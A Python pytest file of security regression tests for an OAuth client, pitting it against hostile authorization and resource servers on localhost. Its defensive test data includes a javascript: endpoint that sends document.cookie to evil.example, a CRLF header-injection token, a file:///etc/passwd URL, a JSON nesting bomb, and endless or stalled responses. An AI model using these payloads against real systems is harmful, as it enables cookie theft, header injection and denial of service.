"""Hostile authorization servers and resource servers against the OAuth client.

Each test is a regression test of a defect found by attacking the client:
a ``WWW-Authenticate`` header that took minutes to read, an authorization
server over plain HTTP (or naming a ``javascript:`` authorization
endpoint), metadata without PKCE S256, a token endpoint that redirects
(the code, the verifier and the client's secret were sent on), token
responses of a type the client cannot present or with an access token that
is not one, lifetimes that are not lifetimes, an empty ``client_id`` from
registration, and answers trickled or endless. The peers are real sockets on
127.0.0.1: ``servers/scripted_auth.py`` (a working authorization server and
resource, each route scriptable) and ``servers/trickler.py`` (answers as
slowly as a test says). ``0.0.0.0`` reaches this machine without being a
loopback name: it stands for "a host across the network".
"""

from __future__ import annotations

import json
import logging
import re
import socket
from collections.abc import Callable, Iterator
from typing import Any

import pytest
import requests
from servers.scripted_auth import Reply, ScriptedAuth, ScriptedServer
from servers.trickler import RawServer, Trickler

from mcp_sync import MCPError
from mcp_sync.client.auth import LoopbackInteraction, OAuth
from mcp_sync.client.auth import oauth as oauth_module
from mcp_sync.protocol.oauth import Challenge, secure_url

TIMEOUT = 10.0
PING = {"jsonrpc": "2.0", "id": 1, "method": "ping"}
REDIRECT = "http://127.0.0.1:8976/callback"


class Robot:
    """A person who approves every sign-in at once; ``urls`` are the authorization URLs shown to them."""

    def __init__(self, auth: ScriptedAuth, answer: Callable[[str], str] | None = None) -> None:
        self.auth, self.answer = auth, answer
        self.redirect_uri = REDIRECT
        self.urls: list[str] = []

    def authorize(self, url: str, timeout: float) -> str:
        self.urls.append(url)
        return self.answer(url) if self.answer is not None else self.auth.approve(url)


@pytest.fixture
def auth() -> Iterator[ScriptedAuth]:
    with ScriptedAuth() as server:
        yield server


@pytest.fixture
def thief() -> Iterator[ScriptedServer]:
    with ScriptedServer() as server:
        server.on("POST", "/token", Reply(json={"access_token": "stolen", "token_type": "Bearer"}))
        yield server


def reason(error: pytest.ExceptionInfo[MCPError]) -> str:
    data = error.value.data
    assert isinstance(data, dict), data
    return str(data["reason"])


def sign_in(auth: ScriptedAuth, **options: Any) -> tuple[OAuth, Robot]:
    robot = Robot(auth)
    return OAuth(interaction=robot, **options), robot


def ping(oauth: OAuth, url: str) -> requests.Response:
    return requests.post(url, json=PING, auth=oauth, timeout=TIMEOUT)


# --------------------------------------------------------------------- the challenge


def test_a_huge_www_authenticate_header_is_read_in_one_pass() -> None:
    # 100 KB of one unbroken word before the parameters: each start position was tried (minutes).
    header = "Bearer " + "a" * 100_000 + ', error="insufficient_scope", scope="files:write"'
    challenge = Challenge.parse(header)
    assert challenge.error == "insufficient_scope" and challenge.scope == "files:write"


# ------------------------------------------------------------ where the servers are


def test_only_https_or_this_machine_is_an_authorization_server() -> None:
    assert secure_url("https://auth.example/t") and secure_url("http://localhost:9/t")
    assert secure_url("http://127.0.0.2/t") and secure_url("http://[::1]:9/t")
    for url in ("http://auth.example/t", "http://0.0.0.0:9/t", "javascript:alert(1)", "file:///etc/passwd", "https:"):
        assert not secure_url(url), url


def test_an_authorization_server_over_plain_http_is_refused_unasked(auth: ScriptedAuth) -> None:
    away = f"http://0.0.0.0:{auth.port}"  # this very server, under a name that is not loopback
    auth.resource_metadata["authorization_servers"] = [away]
    auth.metadata.update(issuer=away, authorization_endpoint=away + "/authorize", token_endpoint=away + "/token")
    oauth, robot = sign_in(auth)
    with pytest.raises(MCPError) as refused:
        oauth.login(auth.resource)
    assert reason(refused) == "insecure_url"
    assert robot.urls == [] and auth.received("/.well-known/oauth-authorization-server") == []


@pytest.mark.parametrize(
    "endpoint", ["token_endpoint", "authorization_endpoint", "registration_endpoint"], ids=lambda name: name
)
def test_metadata_naming_an_endpoint_over_plain_http_is_refused(auth: ScriptedAuth, endpoint: str) -> None:
    auth.metadata[endpoint] = f"http://0.0.0.0:{auth.port}/{endpoint}"
    oauth, robot = sign_in(auth)
    with pytest.raises(MCPError) as refused:
        oauth.login(auth.resource)
    assert reason(refused) == "insecure_url"
    assert robot.urls == [] and auth.received("/token") == [] and auth.received("/register") == []


def test_a_javascript_authorization_endpoint_is_never_shown(auth: ScriptedAuth) -> None:
    auth.metadata["authorization_endpoint"] = "javascript:fetch('https://evil.example/'+document.cookie)"
    oauth, robot = sign_in(auth)
    with pytest.raises(MCPError) as refused:
        oauth.login(auth.resource)
    assert reason(refused) == "insecure_url" and robot.urls == []


# ----------------------------------------------------------------------------- PKCE


@pytest.mark.parametrize("methods", [None, ["plain"], []], ids=["absent", "plain-only", "empty"])
def test_metadata_without_pkce_s256_refuses_the_sign_in(auth: ScriptedAuth, methods: list[str] | None) -> None:
    if methods is None:
        del auth.metadata["code_challenge_methods_supported"]
    else:
        auth.metadata["code_challenge_methods_supported"] = methods
    oauth, robot = sign_in(auth)
    with pytest.raises(MCPError) as refused:
        oauth.login(auth.resource)
    assert reason(refused) == "pkce_unsupported"
    assert robot.urls == [] and auth.received("/register") == []


# ---------------------------------------------------------------- redirects


def test_a_token_endpoint_that_redirects_is_not_followed(auth: ScriptedAuth, thief: ScriptedServer) -> None:
    auth.on("POST", "/token", Reply(307, headers={"Location": thief.url + "/token"}))
    oauth, robot = sign_in(
        auth, client_id="app", client_secret="app-s3cret", token_endpoint_auth_method="client_secret_post"
    )
    with pytest.raises(MCPError) as refused:
        oauth.login(auth.resource)
    assert reason(refused) == "token_request_failed" and "307" in refused.value.message
    assert thief.received() == []  # the code, its verifier and the secret stayed where they were sent
    assert len(robot.urls) == 1


def test_a_registration_endpoint_that_redirects_is_not_followed(auth: ScriptedAuth, thief: ScriptedServer) -> None:
    thief.on("POST", "/register", Reply(201, {"client_id": "planted"}))
    auth.on("POST", "/register", Reply(308, headers={"Location": thief.url + "/register"}))
    oauth, _ = sign_in(auth)
    with pytest.raises(MCPError) as refused:
        oauth.login(auth.resource)
    assert reason(refused) == "registration_failed" and thief.received() == []


# --------------------------------------------------------------- token responses


def issuing(auth: ScriptedAuth, **changes: Any) -> None:
    """Make the token endpoint's answers carry ``changes`` (a value of ``None`` removes a field)."""
    grant = auth._grant

    def changed(scope: str | None, resource: str | None) -> dict[str, Any]:
        answer = {**grant(scope, resource), **changes}
        return {name: value for name, value in answer.items() if value is not None}

    auth._grant = changed  # type: ignore[method-assign]


@pytest.mark.parametrize(
    "changes",
    [
        pytest.param({"token_type": "mac"}, id="mac"),
        pytest.param({"token_type": "DPoP"}, id="dpop-unasked"),
        pytest.param({"access_token": ""}, id="empty"),
        pytest.param({"access_token": "a b"}, id="a-space"),
        pytest.param({"access_token": "good\r\nX-Planted: 1"}, id="a-header-injection"),
        pytest.param({"access_token": "caf\u00e9"}, id="not-ascii"),
    ],
)
def test_a_token_the_client_cannot_present_is_refused(auth: ScriptedAuth, changes: dict[str, Any]) -> None:
    issuing(auth, **changes)
    oauth, _ = sign_in(auth)
    with pytest.raises(MCPError) as refused:
        oauth.login(auth.resource)
    assert reason(refused) == "token_request_failed"
    assert oauth.tokens(auth.resource) is None


def test_a_lowercase_bearer_type_is_a_bearer_token(auth: ScriptedAuth) -> None:
    issuing(auth, token_type="bearer")
    oauth, _ = sign_in(auth)
    assert ping(oauth, auth.resource).status_code == 200


@pytest.mark.parametrize("lifetime", [-60, 0, float("nan"), float("inf")], ids=["negative", "zero", "nan", "inf"])
def test_a_lifetime_that_is_not_one_is_unknown_and_never_refreshed_on(auth: ScriptedAuth, lifetime: float) -> None:
    auth.expires_in = lifetime
    oauth, _ = sign_in(auth)
    for _ in range(3):
        assert ping(oauth, auth.resource).status_code == 200
    tokens = oauth.tokens(auth.resource)
    assert tokens is not None and tokens.expires_in is None and tokens.expires_at is None
    # One sign-in; no refresh before each request (a negative lifetime made every request refresh).
    assert [r.form["grant_type"] for r in auth.received("/token")] == ["authorization_code"]


def test_a_lifetime_as_a_string_of_digits_is_read_and_any_other_string_refused(auth: ScriptedAuth) -> None:
    auth.expires_in = "3600"  # type: ignore[assignment]
    oauth, _ = sign_in(auth)
    tokens = oauth.login(auth.resource)
    assert tokens is not None and tokens.expires_in == 3600
    auth.expires_in = "soon"  # type: ignore[assignment]
    with pytest.raises(MCPError) as refused:
        sign_in(auth)[0].login(auth.resource)
    assert reason(refused) == "token_request_failed"


def test_a_resource_that_refuses_every_token_is_given_up_on(auth: ScriptedAuth) -> None:
    oauth, robot = sign_in(auth)
    assert ping(oauth, auth.resource).status_code == 200
    auth.on("POST", "/mcp", lambda request: Reply(401, headers={"WWW-Authenticate": auth.challenge("invalid_token")}))
    assert ping(oauth, auth.resource).status_code == 401  # one refresh, then that 401 is the answer
    assert [r.form["grant_type"] for r in auth.received("/token")] == ["authorization_code", "refresh_token"]
    assert len(robot.urls) == 1


@pytest.mark.parametrize("answer", [{"client_secret": "x"}, {"client_id": ""}], ids=["missing", "empty"])
def test_a_registration_without_a_client_id_is_refused(auth: ScriptedAuth, answer: dict[str, Any]) -> None:
    auth.on("POST", "/register", Reply(201, answer))
    oauth, robot = sign_in(auth)
    with pytest.raises(MCPError) as refused:
        oauth.login(auth.resource)
    assert reason(refused) == "registration_failed" and robot.urls == []


# ------------------------------------------------------------- slow and endless answers


@pytest.fixture
def short_timeout(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(oauth_module, "HTTP_TIMEOUT", 0.5)


@pytest.fixture
def trickled() -> Iterator[list[Trickler]]:
    made: list[Trickler] = []
    yield made
    for each in made:
        each.close()


def test_a_trickled_token_answer_is_given_up_on(
    auth: ScriptedAuth, short_timeout: None, trickled: list[Trickler]
) -> None:
    tokens = json.dumps({"access_token": "slow", "token_type": "Bearer"}).encode() + b" " * 2000
    slow = Trickler(tokens, pace=0.05)  # 100 s, were it waited for
    trickled.append(slow)
    auth.metadata["token_endpoint"] = slow.url + "/token"
    oauth, _ = sign_in(auth)
    with pytest.raises(MCPError, match="did not finish") as refused:
        oauth.login(auth.resource)
    assert reason(refused) == "unreachable" and slow.sent < len(slow.body)


def test_a_stalled_metadata_answer_is_skipped(
    auth: ScriptedAuth, short_timeout: None, trickled: list[Trickler]
) -> None:
    stalled = Trickler(b"{}", stall=True)
    trickled.append(stalled)
    header = f'Bearer resource_metadata="{stalled.url}/prm"'
    auth.on("POST", "/mcp", Reply(401, headers={"WWW-Authenticate": header}), auth._serve_resource)
    oauth, _ = sign_in(auth)
    assert ping(oauth, auth.resource).status_code == 200  # on to the well-known URL, which answers
    assert stalled.requests == 1


def test_an_endless_token_answer_is_refused(auth: ScriptedAuth) -> None:
    padding = " " * (oauth_module.MAX_ANSWER_BYTES + 1)
    auth.on("POST", "/token", Reply(body='{"access_token": "big", "token_type": "Bearer"}' + padding))
    oauth, _ = sign_in(auth)
    with pytest.raises(MCPError, match="longer than") as refused:
        oauth.login(auth.resource)
    assert reason(refused) == "unreachable"


# --------------------------------------------------------------- the loopback listener


def test_a_stray_redirect_to_the_loopback_listener_does_not_end_the_sign_in() -> None:
    interaction = LoopbackInteraction(browser=lambda url: None)
    stray: list[int] = []

    def browser(url: str) -> None:
        # A page the person has open gets there first: with a state of its own, then with none.
        for forged in ("?code=planted&state=forged", "?code=planted"):
            stray.append(requests.get(interaction.redirect_uri + forged, timeout=TIMEOUT).status_code)
        assert requests.get(url, timeout=TIMEOUT).status_code == 200

    interaction.browser = browser
    redirect = interaction.redirect_uri + "?code=real&state=the-sign-in"
    assert interaction.authorize(redirect, TIMEOUT) == redirect
    assert stray == [400, 400]


def test_a_silent_connection_to_the_loopback_listener_does_not_hold_the_redirect_back() -> None:
    interaction = LoopbackInteraction(browser=lambda url: None)
    silent = socket.socket()

    def browser(url: str) -> None:
        silent.connect(("127.0.0.1", interaction.port))  # and says nothing
        assert requests.get(url, timeout=TIMEOUT).status_code == 200

    interaction.browser = browser
    redirect = interaction.redirect_uri + "?code=real&state=s"
    try:
        assert interaction.authorize(redirect, TIMEOUT) == redirect
    finally:
        silent.close()


# ---------------------------------------------------------------------------- logs


def test_no_token_code_or_secret_reaches_the_logs(auth: ScriptedAuth, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.DEBUG):
        oauth, _ = sign_in(
            auth, client_id="app", client_secret="app-s3cret-value", token_endpoint_auth_method="client_secret_post"
        )
        assert ping(oauth, auth.resource).status_code == 200
        first = oauth.tokens(auth.resource)
        assert first is not None
        auth.revoke(first.access_token)
        assert ping(oauth, auth.resource).status_code == 200  # refreshed after the 401
        auth.on("POST", "/token", Reply(400, {"error": "invalid_grant"}))
        kept = oauth.tokens(auth.resource)
        assert kept is not None
        auth.revoke(kept.access_token)
        with pytest.raises(MCPError, match="invalid_grant"):  # the refresh and the sign-in again are refused
            ping(oauth, auth.resource)
    secrets = {"app-s3cret-value"}
    for request in auth.received("/token"):
        form = request.form
        secrets.update(form[name] for name in ("code", "code_verifier", "refresh_token") if name in form)
    secrets.update(auth.refresh)
    secrets.update(name for name in (first.access_token, first.refresh_token, kept.access_token) if name)
    logged = "\n".join(record.getMessage() + (record.exc_text or "") for record in caplog.records)
    assert "could not refresh the tokens" in logged and "POST /token" in logged  # ours and urllib3's
    assert not [secret for secret in secrets if secret in logged]


# ------------------------------------------------------------ JSON nested too deep

BOMB = "[" * 100_000  # within the size limit; Python's JSON reader runs out of recursion on it


def test_a_token_answer_nested_too_deep_is_a_clear_error(auth: ScriptedAuth) -> None:
    auth.on("POST", "/token", Reply(body=BOMB, headers={"Content-Type": "application/json"}))
    oauth, _ = sign_in(auth)
    with pytest.raises(MCPError, match="nested too deeply") as refused:
        oauth.login(auth.resource)
    assert reason(refused) == "unreachable"


def test_metadata_nested_too_deep_is_skipped(auth: ScriptedAuth) -> None:
    auth.on("GET", "/bomb", Reply(body=BOMB, headers={"Content-Type": "application/json"}))
    header = f'Bearer resource_metadata="{auth.url}/bomb"'
    auth.on("POST", "/mcp", Reply(401, headers={"WWW-Authenticate": header}), auth._serve_resource)
    oauth, _ = sign_in(auth)
    assert ping(oauth, auth.resource).status_code == 200  # on to the well-known URL, which answers


def test_a_resource_answering_400_nested_too_deep_with_a_dpop_nonce_is_its_answer(auth: ScriptedAuth) -> None:
    auth.on("POST", "/mcp", Reply(400, body=BOMB, headers={"DPoP-Nonce": "n-1"}))
    oauth = OAuth(interaction=Robot(auth), dpop=True)
    assert ping(oauth, auth.resource).status_code == 400


# ------------------------------------------------------------- a resource's refusals


class RefusingResource(RawServer):
    """A raw MCP endpoint on 127.0.0.1 (``/mcp``) that refuses without a token issued by ``auth``, with a bad body.

    ``body="endless"``: a chunked 401 body that never ends (until the client
    hangs up); ``"cut"``: a 401 promising 1000 bytes that hangs up after 10.
    A request with one of ``auth``'s access tokens gets a JSON-RPC result.
    """

    def __init__(self, auth: ScriptedAuth, body: str) -> None:
        self.auth, self.body = auth, body
        super().__init__("/mcp")

    def answer(self, connection: socket.socket, head: bytes) -> None:
        bearer = re.search(rb"(?im)^authorization: bearer (\S+)", head)
        if bearer is not None and bearer.group(1).decode() in self.auth.access:
            answer = b'{"jsonrpc": "2.0", "id": 1, "result": {}}'
            connection.sendall(
                b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n"
                b"Connection: close\r\n\r\n%s" % (len(answer), answer)
            )
            return
        challenge = f'Bearer resource_metadata="{self.auth.url}/.well-known/oauth-protected-resource/mcp"'
        refusal = f"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: {challenge}\r\n"
        if self.body == "cut":
            connection.sendall(f"{refusal}Content-Length: 1000\r\n\r\n".encode() + b"x" * 10)
            return
        connection.sendall(f"{refusal}Transfer-Encoding: chunked\r\n\r\n".encode())
        chunk = b"4000\r\n" + b"x" * 0x4000 + b"\r\n"
        while not self._stop.is_set():
            connection.sendall(chunk)


@pytest.mark.parametrize("body", ["endless", "cut"])
def test_a_refusal_whose_body_never_ends_or_is_cut_short_is_let_go(auth: ScriptedAuth, body: str) -> None:
    resource = RefusingResource(auth, body)
    try:
        auth.resource_metadata["resource"] = resource.url
        oauth, robot = sign_in(auth)
        assert ping(oauth, resource.url).json() == {"jsonrpc": "2.0", "id": 1, "result": {}}
        assert len(robot.urls) == 1
    finally:
        resource.close()
